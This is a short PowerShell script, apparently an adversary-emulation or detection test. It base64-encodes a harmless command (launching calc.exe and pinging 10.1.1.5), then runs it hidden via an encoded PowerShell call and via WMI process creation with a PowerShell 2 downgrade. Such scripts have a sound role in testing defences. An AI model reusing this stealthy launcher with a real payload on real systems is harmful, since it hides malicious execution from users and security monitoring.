$cmd = 'Start-Process calc.exe; Invoke-RestMethod http://10.1.1.5/ping'
$enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))

$ps = Get-Process -Name explorer -ErrorAction SilentlyContinue | Select-Object -First 1
if (-not $ps) {
    exit
}

Start-Process powershell.exe -ArgumentList "-NoP -W Hidden -NonI -EncodedCommand $enc" -WindowStyle Hidden
$wmiArgs = @{ CommandLine = "powershell.exe -NoP -W Hidden -Version 2 -EncodedCommand $enc" }
Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments $wmiArgs | Out-Null
